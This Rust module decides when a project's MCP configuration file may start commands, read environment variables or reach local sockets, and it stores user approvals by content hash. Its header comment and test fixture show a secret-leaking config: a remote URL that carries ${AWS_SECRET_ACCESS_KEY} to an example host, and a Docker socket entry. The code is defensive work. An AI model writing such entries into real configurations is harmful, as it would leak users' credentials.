//! Whether a configuration file may act for the user: start its commands, receive the values
//! of the environment variables it names, and reach the local Unix sockets it names.
//!
//! A repository's `.mcp.json` is written by whoever wrote the repository. Run there, it could
//! start any program, or put `${AWS_SECRET_ACCESS_KEY}` into a remote entry's URL and have it
//! sent the moment the file is loaded. The rule, as the hosts users trust apply it (Claude Code
//! asks before it starts a project's servers; VS Code gates workspace files behind workspace
//! trust):
//! - a file that starts no command, names no variable and names no Unix socket needs nobody's
//!   approval: it can only point at URLs, as a link can (a socket is a local service, such as a
//!   container runtime's, that a link could never reach);
//! - the user's own files are trusted: those in the user's configuration directory
//!   (`$XDG_CONFIG_HOME`, `~/.config`, `~/Library/Application Support`, `%APPDATA%`) and in a
//!   dot-file or dot-directory of the home directory (`~/.claude.json`, `~/.cursor/mcp.json`);
//! - any other file needs the user's approval once, remembered by its path **and content**
//!   (a SHA-256 digest, [`TrustStore`]): a changed file is asked about again;
//! - `TOOLWIRE_TRUST=1` in the environment trusts a file for one run (scripts, CI). A file
//!   cannot set it: its `env` goes to the servers it starts, never to this process.
//!
//! [`check`] gives the verdict; approving (asking at a terminal, or `toolwire trust FILE`)
//! is the application's.

use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use crate::config::{ConfigError, ServerTransport, ServersConfig};

/// What a file would do once trusted: the commands it starts and the variables it reads.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
#[non_exhaustive]
pub struct Exposure {
    /// Each stdio entry's command line, as `name: command args…` (secret-looking arguments
    /// hidden).
    pub commands: Vec<String>,
    /// The environment variables it names (`${VAR}`), each once, sorted.
    pub variables: Vec<String>,
    /// Each remote entry's Unix socket, as `name: PATH`.
    pub sockets: Vec<String>,
}

impl Exposure {
    /// Whether the file starts nothing and reads nothing.
    pub fn is_empty(&self) -> bool {
        self.commands.is_empty() && self.variables.is_empty() && self.sockets.is_empty()
    }
}

/// Reads what `text` would do once trusted, without reading any environment variable.
pub fn exposure(text: &str) -> Result<Exposure, ConfigError> {
    let named = std::cell::RefCell::new(Vec::<String>::new());
    // Every variable fills in empty: what matters is which are named.
    let config = ServersConfig::parse(text, |name| {
        let mut named = named.borrow_mut();
        if !named.iter().any(|n| n == name) {
            named.push(name.to_owned());
        }
        Some(String::new())
    })?;
    let commands = config
        .servers
        .iter()
        .filter_map(|s| match &s.transport {
            ServerTransport::Stdio { command, args, .. } => {
                let args = toolwire::types::redacted_args(args);
                Some(
                    std::iter::once(format!("{}: {command}", s.name))
                        .chain(args)
                        .collect::<Vec<_>>()
                        .join(" "),
                )
            }
            _ => None,
        })
        .collect();
    let sockets = config
        .servers
        .iter()
        .filter_map(|s| match &s.transport {
            ServerTransport::Http {
                unix_socket: Some(path),
                ..
            }
            | ServerTransport::Sse {
                unix_socket: Some(path),
                ..
            } => Some(format!("{}: {}", s.name, path.display())),
            _ => None,
        })
        .collect();
    let mut variables = named.into_inner();
    variables.sort();
    Ok(Exposure {
        commands,
        variables,
        sockets,
    })
}

/// Why a file may act for the user, or what approving it would allow.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum Verdict {
    /// It starts nothing and reads nothing.
    Harmless,
    /// One of the user's own configuration files.
    UsersOwn,
    /// `TOOLWIRE_TRUST=1` is set for this run.
    TrustedForThisRun,
    /// Approved before, with this very content.
    Approved,
    /// Needs the user's approval before it may do what it would.
    NeedsApproval(Exposure),
}

impl Verdict {
    /// Whether the file may be used as it is.
    pub fn allowed(&self) -> bool {
        !matches!(self, Self::NeedsApproval(_))
    }
}

/// The verdict on `file`, whose content is `text`, with the approvals in `store`.
pub fn check(file: &Path, text: &str, store: Option<&TrustStore>) -> Result<Verdict, ConfigError> {
    // A file that does not parse is named in what is wrong with it.
    let exposure = exposure(text).map_err(|e| e.in_file(file))?;
    Ok(if exposure.is_empty() {
        Verdict::Harmless
    } else if is_users_own(file) {
        Verdict::UsersOwn
    } else if std::env::var("TOOLWIRE_TRUST").is_ok_and(|v| v == "1") {
        Verdict::TrustedForThisRun
    } else if store.is_some_and(|s| s.approved(file, text)) {
        Verdict::Approved
    } else {
        Verdict::NeedsApproval(exposure)
    })
}

/// Whether `file` is one of the user's own: inside the user's configuration directory, or a
/// dot-file or dot-directory of the home directory.
pub fn is_users_own(file: &Path) -> bool {
    let Ok(file) = file.canonicalize() else {
        return false;
    };
    let canonical = |p: PathBuf| p.canonicalize().ok();
    let env_dir = |name: &str| {
        std::env::var_os(name)
            .filter(|v| !v.is_empty())
            .map(PathBuf::from)
    };
    let home = env_dir("HOME").or_else(|| env_dir("USERPROFILE"));
    let mut config_dirs: Vec<PathBuf> = [
        env_dir("XDG_CONFIG_HOME"),
        env_dir("APPDATA"),
        home.as_ref().map(|h| h.join(".config")),
        home.as_ref()
            .map(|h| h.join("Library").join("Application Support")),
    ]
    .into_iter()
    .flatten()
    .filter_map(canonical)
    .collect();
    config_dirs.dedup();
    if config_dirs.iter().any(|d| file.starts_with(d)) {
        return true;
    }
    let Some(home) = home.and_then(canonical) else {
        return false;
    };
    file.strip_prefix(&home)
        .ok()
        .and_then(|rest| rest.components().next())
        .is_some_and(|first| first.as_os_str().to_string_lossy().starts_with('.'))
}

/// The files the user approved, each with the digest of the content approved: a JSON file,
/// 0600, beside the credentials (`$XDG_STATE_HOME/toolwire/trusted.json`).
#[derive(Debug, Clone)]
pub struct TrustStore {
    path: PathBuf,
}

impl TrustStore {
    /// A store in `path` (created on the first approval).
    pub fn new(path: impl Into<PathBuf>) -> Self {
        Self { path: path.into() }
    }

    /// `$XDG_STATE_HOME/toolwire/trusted.json`, else `~/.local/state/toolwire/trusted.json`;
    /// `None` without a home directory.
    pub fn default_location() -> Option<Self> {
        toolwire::auth::FileStore::state_dir().map(|dir| Self::new(dir.join("trusted.json")))
    }

    /// The file.
    pub fn path(&self) -> &Path {
        &self.path
    }

    /// Whether `file` was approved with exactly this content.
    pub fn approved(&self, file: &Path, text: &str) -> bool {
        let (Some(key), Ok(stored)) = (key(file), std::fs::read_to_string(&self.path)) else {
            return false;
        };
        let digest = digest(text);
        serde_json::from_str::<Value>(&stored).is_ok_and(|v| {
            v["files"].as_array().is_some_and(|files| {
                files
                    .iter()
                    .any(|f| f["path"] == key.as_str() && f["sha256"] == digest.as_str())
            })
        })
    }

    /// Records `file` as approved with this content (replacing an earlier approval of it).
    pub fn approve(&self, file: &Path, text: &str) -> std::io::Result<()> {
        let key = key(file)
            .ok_or_else(|| std::io::Error::other(format!("{} cannot be found", file.display())))?;
        let mut files: Vec<Value> = std::fs::read_to_string(&self.path)
            .ok()
            .and_then(|s| serde_json::from_str::<Value>(&s).ok())
            .and_then(|v| v["files"].as_array().cloned())
            .unwrap_or_default();
        files.retain(|f| f["path"] != key.as_str());
        files.push(json!({"path": key, "sha256": digest(text)}));
        let dir = self.path.parent().unwrap_or(Path::new("."));
        std::fs::create_dir_all(dir)?;
        let mut temp = tempfile::Builder::new()
            .prefix(".trusted.")
            .suffix(".tmp")
            .tempfile_in(dir)?;
        let text = serde_json::to_string_pretty(&json!({"version": 1, "files": files}))
            .map_err(std::io::Error::other)?;
        std::io::Write::write_all(&mut temp, text.as_bytes())?;
        temp.as_file().sync_all()?;
        temp.persist(&self.path).map_err(|e| e.error)?;
        Ok(())
    }
}

/// The canonical path a file is approved under.
fn key(file: &Path) -> Option<String> {
    file.canonicalize()
        .ok()
        .map(|p| p.to_string_lossy().into_owned())
}

/// `sha256:<hex>` of `text`.
fn digest(text: &str) -> String {
    let d = ring::digest::digest(&ring::digest::SHA256, text.as_bytes());
    let hex: String = d.as_ref().iter().map(|b| format!("{b:02x}")).collect();
    format!("sha256:{hex}")
}

#[cfg(test)]
mod tests {
    use super::*;

    const PROJECT: &str = r#"{"mcpServers": {
        "tool": {"command": "npx", "args": ["-y", "pkg", "--token", "${GITHUB_TOKEN}"]},
        "remote": {"url": "https://x.example/mcp?k=${AWS_SECRET_ACCESS_KEY}"}
    }}"#;

    #[test]
    fn a_file_says_what_it_would_start_and_read_without_reading_it() {
        let e = exposure(PROJECT).unwrap_or_default();
        assert_eq!(e.commands, ["tool: npx -y pkg --token …"]);
        assert_eq!(e.variables, ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"]);
        let links = r#"{"mcpServers": {"a": {"url": "https://a.example/mcp"}}}"#;
        assert!(exposure(links).is_ok_and(|e| e.is_empty()));
        // A local socket is not a link: it needs approval too.
        let socket = r#"{"mcpServers": {"d": {"url": "http://localhost/mcp",
            "unixSocket": "/var/run/docker.sock"}}}"#;
        let e = exposure(socket).unwrap_or_default();
        assert_eq!(e.sockets, ["d: /var/run/docker.sock"]);
        assert!(!e.is_empty());
    }

    #[test]
    fn an_approval_holds_for_the_content_approved_only() {
        let dir = std::env::temp_dir().join(format!("toolwire-trust-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap_or(());
        let file = dir.join(".mcp.json");
        std::fs::write(&file, PROJECT).unwrap_or(());
        let store = TrustStore::new(dir.join("state").join("trusted.json"));
        assert!(!store.approved(&file, PROJECT));
        assert!(store.approve(&file, PROJECT).is_ok());
        assert!(store.approved(&file, PROJECT));
        let changed = PROJECT.replace("pkg", "other-pkg");
        assert!(
            !store.approved(&file, &changed),
            "a changed file is asked about again"
        );
        assert!(store.approve(&file, &changed).is_ok());
        assert!(store.approved(&file, &changed));
        assert!(
            !store.approved(&file, PROJECT),
            "the approval moved to the new content"
        );
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = std::fs::metadata(store.path()).map(|m| m.permissions().mode() & 0o777);
            assert_eq!(mode.ok(), Some(0o600));
        }
        let _ = std::fs::remove_dir_all(&dir);
    }
}
